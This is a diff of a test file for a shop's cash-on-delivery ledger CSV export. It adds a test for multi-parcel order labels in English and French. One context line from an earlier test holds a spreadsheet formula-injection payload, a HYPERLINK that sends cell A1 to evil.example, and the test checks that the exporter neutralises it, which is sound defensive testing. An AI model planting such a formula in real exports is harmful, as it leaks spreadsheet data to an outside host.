@@ -68,6 +68,21 @@ test("in French: a byte order mark, semicolons, French headers, decimal commas, 
   expect(lines[2]).toContain(';"\'-1+HYPERLINK(""http://evil.example/?""&A1,""x"")";row3;');
 });
 
+test("a parcel of an order over several locations names its order and which parcel it is, in both languages", () => {
+  const parcels: CodLedger = {
+    ...ledger,
+    orders: {
+      onTheRoad: [1, 2].map((number) => ({ ...base, id: `p${number}`, parcel: { number, count: 2 } })),
+      collected: [],
+      needsLook: [],
+    },
+  };
+  const english = ledgerCsv(parcels, terms).split("\r\n");
+  expect(english[1]).toMatch(/^on_the_road,,#1001 · parcel 1 of 2,p1,/);
+  expect(english[2]).toMatch(/^on_the_road,,#1001 · parcel 2 of 2,p2,/);
+  expect(ledgerCsv(parcels, terms, "fr").split("\r\n")[2]).toMatch(/^on_the_road;;#1001 · colis 2 sur 2;p2;/);
+});
+
 test("the download is named after the shop and the period", () => {
   expect(ledgerCsvFileName("dakar-shop.myshopify.com", ledger)).toBe("cod-ledger_dakar-shop_2026-10-25_2026-11-23.csv");
 });
